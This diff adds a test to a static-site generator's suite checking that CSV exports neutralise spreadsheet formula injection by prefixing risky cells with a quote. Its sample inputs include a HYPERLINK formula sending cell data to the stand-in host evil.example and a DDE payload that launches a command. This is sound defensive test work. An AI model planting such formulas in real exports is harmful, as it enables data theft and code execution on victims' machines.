@@ -284,3 +284,50 @@ def test_a_newcomers_import_builds_strict_and_keeps_acled_rows_out_of_the_files(
     assert len(rows) == len(events) - 3
     page = (project.site / "en" / "data" / "index.html").read_text(encoding="utf-8")
     assert "Events imported from ACLED are left out of these files" in page
+
+
+FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
+            "\tx=1", "\uff1d1+1")
+
+
+def test_no_text_cell_reads_as_a_spreadsheet_formula():
+    """CSV injection (OWASP): an event title, a place's name, a source's name and a summary
+    that start like a formula reach the CSV files with a leading `'`, shown as text by a
+    spreadsheet; negative coordinates stay numbers."""
+    from dataclasses import replace
+
+    from sitegen.content.model import Text
+
+    content = check(REPO / "content", None).content
+    event = next(e for e in content.events if e.figures and e.places)
+    lang = content.site.default_language
+    hostile = {
+        "title": FORMULAS[0], "location": FORMULAS[1], "notes": FORMULAS[2], "source_name": FORMULAS[3],
+        "actor1": FORMULAS[4],
+    }
+    place = next(p for p in content.places if p.id == event.places[0])
+    source = next(s for s in content.sources if s.id == event.figures[0].source)
+    acting = next(p.actor for p in event.actors if p.role in ("acting", "supporting"))
+    places = [replace(p, name=Text(((lang, FORMULAS[1]),)), coordinates=(-33.5, -70.25)) if p is place else p
+              for p in content.places]
+    changed = replace(
+        content,
+        events=tuple(replace(e, title=Text(((lang, FORMULAS[0]),)), summary=Text(((lang, FORMULAS[2]),)))
+                     if e is event else e for e in content.events),
+        places=tuple(places),
+        sources=tuple(replace(s, name=Text(((lang, FORMULAS[3]),))) if s is source else s for s in content.sources),
+        actors=tuple(replace(a, name=Text(((lang, FORMULAS[4 if a.id == acting else 5]),))) for a in content.actors),
+    )
+    made = files.make(changed)
+    events = {r["event_id"]: r for r in csv.DictReader(io.StringIO(made["events.csv"].decode("utf-8"), newline=""))}
+    figures = list(csv.DictReader(io.StringIO(made["figures.csv"].decode("utf-8"), newline="")))
+    row = events[event.id]
+    for column in ("title", "location", "notes", "actor1"):
+        assert row[column] == "'" + hostile[column], column
+    assert any(r["actor2"] == "'" + FORMULAS[5] for r in events.values())
+    assert any(r["source_name"] == "'" + FORMULAS[3] for r in figures)
+    assert (row["latitude"], row["longitude"]) == ("-33.5", "-70.25")
+    for table in [list(events.values()), figures]:
+        for item in table:
+            for column, value in item.items():
+                assert column in ("latitude", "longitude") or value[:1] not in files.FORMULA_START, value
